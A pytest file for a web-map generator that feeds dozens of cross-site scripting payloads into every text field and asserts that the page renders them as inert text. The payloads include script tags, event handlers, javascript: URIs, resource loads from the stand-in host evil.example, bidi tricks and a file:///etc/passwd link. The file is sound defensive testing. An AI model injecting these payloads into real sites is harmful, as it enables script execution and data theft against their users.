"""Report text is shown as it is, in every field, and runs nothing."""

from __future__ import annotations

import json
import re
from typing import Any

import geopandas as gpd
import pandas as pd
import pytest
from shapely import Point

from geomap.webmap import write_map
from geomap.webmap.data import TEXT_COLUMNS

pytestmark = pytest.mark.browser

PAYLOADS = [
    "<img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>",
    "<!--<script>alert(1)//-->",
    "</title></style><svg onload=alert(1)>",
    "`${1+1}` ${alert(1)}",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    " java\tscript:alert(1)",
    "{{ 7*7 }}{% raw %}",
    "\u202eevil\u2066 \u200ftext",
    "\" onmouseover=alert(1) x='",
    "a\u2028b\u2029c\\u003c",
    "&lt;b&gt; &amp;",
    "__proto__",
    "{n} {name}",
]

# Further ways that text has become script elsewhere. They share one page: each stands in every field of its own rows.
MORE_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<svg/onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=https://evil.example/></object>",
    "<embed src=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<form action=https://evil.example/><button>go</button></form>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=https://evil.example/x.mp3 autoplay>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<a href=javascript:alert(1)>click</a>",
    "<img src=https://evil.example/pixel.png>",
    "<img srcset='https://evil.example/x 1x'>",
    "<table background=https://evil.example/x>",
    "<div style='background:url(https://evil.example/x)'>",
    "url(https://evil.example/x)",
    "]]><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "</textarea><script>alert(1)</script>",
    "</bdi></li></ol><script>alert(1)</script>",
    "'-alert(1)-'",
    '";alert(1);//',
    "\\';alert(1);//",
    "${constructor.constructor('alert(1)')()}",
    "{{constructor.constructor('alert(1)')()}}",
    "JaVaScRiPt:alert(1)",
    "javascript://example.org/%0aalert(1)",
    "vbscript:msgbox(1)",
    'https://example.org/"onmouseover="alert(1)',
    "&#60;img src=x onerror=alert(1)&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\ufeff<script>alert(1)</script>",
    "\u2067<script>\u2069 \u202d\u202c",
    "constructor",
    '=HYPERLINK("https://evil.example")',
]
FREE = [name for name in TEXT_COLUMNS if name not in ("incident_id", "status", "candidates")]


def hostile(payload: str) -> gpd.GeoDataFrame:
    """One incident of each status with the payload in every text field."""
    candidates = [
        {"place_id": payload, "pcode": payload, "name": payload, "method": payload, "score": 1, "latitude": 35, "longitude": 38 + i}
        | {"kind": payload, "admin1": payload, "admin2": payload}
        for i in range(2)
    ]  # fmt: skip
    places = {"resolved": Point(40, 36), "ambiguous": Point(38, 35)}
    rows: list[dict[str, Any]] = [
        dict.fromkeys(FREE, payload)
        | {"incident_id": f"{status} {payload}", "status": status, "candidates": json.dumps(candidates)}
        | {
            "context": f"before {payload} after",
            "context_start": 7,
            "geo_precision": 1,
            "uncertainty_m": 1000.0,
        }
        | {"geometry": places.get(status)}
        | ({"admin1": ""} if status == "ambiguous" else {})
        for status in ("resolved", "ambiguous", "unmatched", "outside", "not_locative")
    ]
    return gpd.GeoDataFrame(pd.DataFrame(rows), geometry="geometry", crs="EPSG:4326")


def named(base: dict[str, Any], name: str) -> dict[str, Any]:
    """The governorates of the base map, each called so."""
    layer = base["governorates"]
    features = [feature | {"properties": {"name": name}} for feature in layer["features"]]
    return layer | {"features": features}


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_text_is_shown_and_runs_nothing(open_page, base, tmp_path, payload) -> None:
    label = {"name_en": payload, "name_ar": payload, "lon": 39, "lat": 33, "rank": 1}
    hostile_base = base | {"labels": [label], "attribution": payload, "governorates": named(base, payload)}
    write_map(hostile(payload), tmp_path / "map.html", title=payload, base=hostile_base)
    page = open_page(tmp_path / "map.html")
    assert page.locator("h1").evaluate("(element) => element.textContent") == payload
    assert page.evaluate("document.title") == re.sub(r"[ \t]+", " ", payload).strip(" ")  # as HTML defines it
    assert page.locator(".label").evaluate("(element) => element.textContent") == payload

    for status in ("resolved", "ambiguous"):
        assert page.evaluate("(id) => geomap.select(id)", f"{status} {payload}") is True
        card = page.locator(f'.leaflet-popup .card[data-status="{status}"]')
        assert card.get_attribute("data-incident-id") == f"{status} {payload}"
        assert card.locator(".toponym").evaluate("(element) => element.textContent") == payload
        assert card.locator("mark").evaluate("(element) => element.textContent") == payload
        assert (
            card.locator("blockquote").evaluate("(element) => element.textContent")
            == f"before {payload} after"
        )
        assert card.locator("a").count() == 0  # no payload is a web address
        for quoted in card.locator("bdi").all():
            assert quoted.evaluate("(element) => element.childElementCount") == 0
    assert page.locator(".candidates li").count() == 2

    for tab in ("unmatched", "outside"):
        page.locator(f"#tab-{tab}").click()
        name = page.locator(f"#page-{tab} .toponym")
        assert name.evaluate("(element) => element.textContent") == payload
    for mark in page.locator(".leaflet-marker-icon").all():
        mark.dispatch_event("mouseover")
    page.wait_for_timeout(50)  # an image that fails or a handler would have run by now
    assert page.locator("img, iframe, object, embed, [onerror], [onload], [onmouseover]").count() == 0


@pytest.mark.parametrize("lang", ["en", "ar"])
def test_sixty_payloads_run_nothing_in_any_part_of_the_page(open_page, base, tmp_path, lang) -> None:
    payloads = [*PAYLOADS, *MORE_PAYLOADS]
    assert len(set(payloads)) >= 60
    frame = gpd.GeoDataFrame(
        pd.concat([hostile(one) for one in payloads], ignore_index=True), crs="EPSG:4326"
    )
    labels = [
        {"name_en": one, "name_ar": one, "lon": 36 + n % 8 * 0.7, "lat": 32.6 + n // 8 * 0.6, "rank": 1}
        for n, one in enumerate(payloads)
    ]
    hostile_base = base | {"labels": labels, "governorates": named(base, payloads[0])}
    write_map(frame, tmp_path / "map.html", base=hostile_base, lang=lang)
    page = open_page(tmp_path / "map.html")
    for payload in payloads:
        for status in ("resolved", "ambiguous"):
            assert page.evaluate("(id) => geomap.select(id)", f"{status} {payload}") is True
        assert payload in page.locator(".leaflet-popup .card").first.evaluate("(card) => card.textContent")
    for tab in ("unmatched", "outside"):
        page.locator(f"#tab-{tab}").click()
        names = page.locator(f"#page-{tab} .toponym").evaluate_all(
            "(all) => all.map((one) => one.textContent)"
        )
        assert set(names) == set(payloads)
    page.wait_for_timeout(100)  # an image that fails or a handler would have run by now
    made = "img, iframe, object, embed, video, audio, template, marquee, math, form[action], base, [srcset], [style*=evil]"
    assert page.locator(made).count() == 0
    for link in page.locator("#panel a, .leaflet-popup a:not(.leaflet-popup-close-button)").all():
        assert link.get_attribute("href").startswith("https://example.org/")


def test_only_web_addresses_become_links(open_page, base, tmp_path) -> None:
    frame = hostile("plain")
    frame["url"] = [
        "https://example.org/x\"onclick='alert(1)",
        "file:///etc/passwd",
        "vbscript:x",
        "ftp://a/b",
        "//evil",
    ]
    frame["incident_id"] = list("abcde")
    write_map(frame, tmp_path / "map.html", base=base)
    page = open_page(tmp_path / "map.html")
    page.evaluate("geomap.select('a')")
    link = page.locator(".leaflet-popup a[rel='noopener noreferrer']")
    assert link.get_attribute("href") == "https://example.org/x%22onclick='alert(1)"
    assert link.evaluate("(element) => element.attributes.length") == 3
    page.evaluate("geomap.select('b')")
    assert page.locator(".leaflet-popup .card a").count() == 0
    assert page.locator("#page-unmatched a, #page-outside a").count() == 0


def test_direction_of_quoted_text_stays_inside_it(open_page, base, tmp_path) -> None:
    write_map(hostile("\u202eabc"), tmp_path / "map.html", base=base)
    page = open_page(tmp_path / "map.html")
    page.evaluate("(id) => geomap.select(id)", "resolved \u202eabc")
    isolated = "(element) => getComputedStyle(element).unicodeBidi"
    for quoted in page.locator(".leaflet-popup .card bdi").all():
        assert quoted.evaluate(isolated) == "isolate"
    assert page.locator(".leaflet-popup blockquote").evaluate(isolated) in ("isolate", "plaintext")
    label = page.locator(".leaflet-marker-icon").first.get_attribute("aria-label")
    assert label.startswith("\u2068\u202eabc\u2069:")
